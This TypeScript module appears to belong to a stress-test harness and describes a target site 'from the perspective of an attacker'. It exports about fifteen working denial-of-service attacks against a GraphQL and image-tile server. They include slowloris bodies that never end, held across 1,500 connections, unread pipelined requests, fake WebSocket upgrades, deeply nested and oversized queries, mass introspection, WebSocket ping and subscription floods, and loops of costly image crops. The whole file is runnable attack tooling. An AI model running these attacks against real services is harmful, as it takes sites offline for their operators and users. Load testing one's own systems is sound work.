import { connect } from "node:net";
import type { Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { WebSocket } from "ws";
import { send, sendOperation } from "./client.ts";

/** A site from the perspective of an attacker. */
export type Target = {
  url: string;
  from: string;
  /** A published work with several images. */
  slug: string;
  /** The path of an image's service. */
  service: string;
};

let count = 0;

/** Repeats a request in several concurrent loops, with a pause after a rejected one. */
function repeat(loops: number, one: () => Promise<{ status: number }>): void {
  const loop = async (): Promise<void> => {
    const { status } = await one();
    if (status !== 200) await wait(20);
    return loop();
  };
  for (let index = 0; index < loops; index += 1) void loop();
}

/** Holds a number of raw connections open. Replaces a closed one after a pause. */
function holdOpen(connections: number, target: Target, begin: (socket: Socket) => void): void {
  const { hostname, port } = new URL(target.url);
  const open = () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: target.from });
    socket.on("error", () => undefined);
    socket.on("close", () => setTimeout(open, 200));
    socket.on("connect", () => begin(socket));
  };
  for (let index = 0; index < connections; index += 1) open();
}

/** Holds a number of WebSockets open, and calls `begin` with each that the server has acknowledged. */
function openSockets(
  sockets: number,
  { url, from }: Target,
  begin: (socket: WebSocket) => void,
): void {
  const open = () => {
    const socket = new WebSocket(`${url}/graphql`, "graphql-transport-ws", { localAddress: from });
    socket.on("error", () => undefined);
    socket.on("close", () => setTimeout(open, 200));
    socket.on("open", () => socket.send(JSON.stringify({ type: "connection_init" })));
    socket.once("message", () => begin(socket));
  };
  for (let index = 0; index < sockets; index += 1) open();
}

/** Sends messages as fast as the socket accepts them, many in one chunk, and reads nothing. */
function flood(socket: WebSocket, ...messages: string[]): void {
  socket.pause();
  const sending = setInterval(() => {
    if (socket.bufferedAmount > 2 ** 20) return;
    for (let n = 0; n < 64; n += 1) for (const message of messages) socket.send(message);
  }, 10);
  socket.on("close", () => clearInterval(sending));
}

const head = (method: string, path: string, rest = "") =>
  `${method} ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${rest}\r\n`;

const upgrade = [
  "Connection: Upgrade",
  "Upgrade: websocket",
  "Sec-WebSocket-Version: 13",
  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
].join("\r\n");

const introspection = `query { ${Array.from({ length: 250 }, (_, index) => `a${index}: __schema { ...F }`).join(" ")} }
  fragment F on __Schema { types { name fields { name args { name type { name } } type { name } } } }`;

/** Attacks of one network, by name. Each continues until its process ends. */
export const attacks: Record<string, (target: Target) => void> = {
  "nested lists": ({ slug, ...target }) => {
    const nested = (levels: number): string =>
      levels === 0 ? "id" : `images { work { ${nested(levels - 1)} } }`;
    repeat(20, () => {
      const query = `{ work(slug: ${JSON.stringify(slug)}) { ${nested(1 + (count++ % 5))} } }`;
      return sendOperation(target, { query });
    });
  },
  introspection: (target) => repeat(20, () => sendOperation(target, { query: introspection })),
  "large documents": (target) =>
    repeat(20, () =>
      sendOperation(target, { query: `{ site { title } } # ${count++} ${"x".repeat(290_000)}` }),
    ),
  "cuts that nobody reads": (target) =>
    holdOpen(60, target, (socket) => {
      socket.pause();
      socket.write(head("GET", `${target.service}/full/^${1000 + (count++ % 500)},/0/default.png`));
    }),
  "cuts on demand": (target) =>
    repeat(212, () => {
      const region = `${count % 97},${count % 89},${1200 + (count++ % 1000)},1200`;
      return send({ ...target, path: `${target.service}/${region}/max/0/default.jpg` });
    }),
  "narrow cuts": (target) =>
    repeat(50, () =>
      send({ ...target, path: `${target.service}/full/1,${500 + (count++ % 1000)}/0/default.jpg` }),
    ),
  "tiles that nobody reads": (target) =>
    holdOpen(60, target, (socket) => {
      socket.pause();
      socket.write(head("GET", `${target.service}/0,0,512,512/512,512/0/default.jpg`).repeat(600));
    }),
  "pipelined probes": (target) =>
    holdOpen(20, target, (socket) => {
      socket.resume();
      socket.write(head("GET", "/healthz").repeat(1_900));
    }),
  "pages at made-up addresses": (target) =>
    repeat(20, () => send({ ...target, path: `/?made-up=${count++}` })),
  "bodies that never end": (target) =>
    holdOpen(1_500, target, (socket) => {
      const length = "Content-Type: application/json\r\nContent-Length: 400000\r\n";
      socket.write(head("POST", "/graphql", length) + "x".repeat(390_000));
      const drip = setInterval(() => socket.write("x"), 5_000);
      socket.on("close", () => clearInterval(drip));
    }),
  "WebSockets where there are none": (target) =>
    holdOpen(1_000, target, (socket) => socket.write(head("GET", "/works", upgrade))),
  "pings that nobody reads": (target) => {
    const ping = JSON.stringify({ type: "ping", payload: { a: "x".repeat(7_900) } });
    openSockets(20, target, (socket) => flood(socket, ping));
  },
  "short pings that nobody reads": (target) =>
    openSockets(200, target, (socket) => flood(socket, JSON.stringify({ type: "ping" }))),
  "ids that come again": (target) =>
    openSockets(20, target, (socket) => {
      const payload = { query: "subscription { collectionChanged { addedCount } }" };
      const begin = JSON.stringify({ id: "a", type: "subscribe", payload });
      flood(socket, begin, JSON.stringify({ id: "a", type: "complete" }));
    }),
  "distinct subscriptions": (target) => {
    /** Each query has a different text, nearly as long as the limit of a message. */
    const queryOf = (number: number) =>
      `subscription { s${number}: collectionChanged { addedCount } } # ${"x".repeat(7_000)}`;
    openSockets(150, target, (socket) => {
      for (let index = 0; index < 20; index += 1) {
        const payload = { query: queryOf(count++) };
        socket.send(JSON.stringify({ id: `${index}`, type: "subscribe", payload }));
      }
    });
  },
};
